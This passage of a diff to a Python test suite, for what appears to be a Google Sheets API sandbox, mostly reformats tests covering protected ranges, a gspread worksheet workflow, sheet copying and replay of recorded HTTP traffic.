+                        "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
+                        "editors": {"users": [CAROL]},
+                    }
+                }
+            }
+        ],
+        user=CAROL,
+    )
     added = reply["replies"][0]["addProtectedRange"]["protectedRange"]
     assert added["editors"] == {"users": [ALICE, CAROL]}
     update(sandbox, sid, "A1", [["owner writes"]], user=ALICE)
@@ -518,11 +803,15 @@ def test_a_gspread_worksheet_workflow(sandbox: SandboxKit) -> None:
     book = sandbox.gspread(ALICE).open_by_key(new_spreadsheet(sandbox))
     conversations = book.add_worksheet("Conversations", rows=3, cols=3)
     conversations.update([ACK_HEADER], "A1")
-    conversations.append_rows([["2026-01-10", "Goals", True], ["2026-02-01", "Skills", False]],
-                              value_input_option=gspread.utils.ValueInputOption.user_entered)
+    conversations.append_rows(
+        [["2026-01-10", "Goals", True], ["2026-02-01", "Skills", False]],
+        value_input_option=gspread.utils.ValueInputOption.user_entered,
+    )
     records = conversations.get_all_records()
-    assert records == [{"Date": "2026-01-10", "Topic": "Goals", "Acknowledged": "TRUE"},
-                       {"Date": "2026-02-01", "Topic": "Skills", "Acknowledged": "FALSE"}]
+    assert records == [
+        {"Date": "2026-01-10", "Topic": "Goals", "Acknowledged": "TRUE"},
+        {"Date": "2026-02-01", "Topic": "Skills", "Acknowledged": "FALSE"},
+    ]
     conversations.batch_update([{"range": "B2", "values": [["Career goals"]]}])
     conversations.delete_rows(3)
     conversations.resize(rows=10)
@@ -538,8 +827,12 @@ def test_copy_to_puts_a_copy_of_the_sheet_in_another_spreadsheet(sandbox: Sandbo
     source = new_spreadsheet(sandbox)
     target = new_spreadsheet(sandbox)
     update(sandbox, source, "A1", [["template"]])
-    copied = run(sandbox, sandbox.sheets.spreadsheets().sheets().copyTo(
-        spreadsheetId=source, sheetId=0, body={"destinationSpreadsheetId": target}))
+    copied = run(
+        sandbox,
+        sandbox.sheets.spreadsheets()
+        .sheets()
+        .copyTo(spreadsheetId=source, sheetId=0, body={"destinationSpreadsheetId": target}),
+    )
     assert copied["title"] == "Copy of Sheet1" and copied["index"] == 1
     assert values(sandbox, target, "'Copy of Sheet1'!A1")["values"] == [["template"]]
 
@@ -581,13 +874,17 @@ def test_recorded_sheets_traffic_replays_identically(sandbox: SandboxKit, record
     for interaction in cassette["interactions"]:
         request, response = interaction["request"], interaction["response"]
         uri = request["uri"]
-        if SHEETS_HOST not in uri and not (request["method"] == "POST"
-                                           and uri.startswith(DRIVE_CREATE)):
+        if SHEETS_HOST not in uri and not (
+            request["method"] == "POST" and uri.startswith(DRIVE_CREATE)
+        ):
             continue
         body = request["body"]
-        ours = session.request(request["method"], _mapped(uri, ids),
-                               data=_mapped(body, ids).encode("utf-8") if body else None,
-                               headers={"Content-Type": "application/json"} if body else {})
+        ours = session.request(
+            request["method"],
+            _mapped(uri, ids),
+            data=_mapped(body, ids).encode("utf-8") if body else None,
+            headers={"Content-Type": "application/json"} if body else {},
+        )
         where = f"{request['method']} {uri}"
         assert ours.status_code == response["status"]["code"], where
         recorded = response["body"]["string"]
@@ -603,8 +900,11 @@ def _mapped(text: str, ids: dict[Any, Any]) -> str:
 
 def _differences(recorded: Any, ours: Any, ids: dict[Any, Any], path: str = "") -> list[str]:
     if isinstance(recorded, dict) and isinstance(ours, dict):
-        found = [f"{path}: keys differ by {sorted(set(recorded) ^ set(ours))}"] if set(
-            recorded) != set(ours) else []
+        found = (
+            [f"{path}: keys differ by {sorted(set(recorded) ^ set(ours))}"]
+            if set(recorded) != set(ours)
+            else []
+        )
         for key in set(recorded) & set(ours):
             if key in ID_FIELDS and not isinstance(recorded[key], (dict, list)):
                 if ids.setdefault(recorded[key], ours[key]) != ours[key]:
@@ -613,8 +913,11 @@ def _differences(recorded: Any, ours: Any, ids: dict[Any, Any], path: str = "") 
                 found += _differences(recorded[key], ours[key], ids, f"{path}.{key}")
         return found
     if isinstance(recorded, list) and isinstance(ours, list):
-        found = [f"{path}: {len(recorded)} items, not {len(ours)}"] if len(recorded) != len(
-            ours) else []
+        found = (
+            [f"{path}: {len(recorded)} items, not {len(ours)}"]
+            if len(recorded) != len(ours)
+            else []
+        )
         for i, (a, b) in enumerate(zip(recorded, ours, strict=False)):
             found += _differences(a, b, ids, f"{path}[{i}]")
         return found
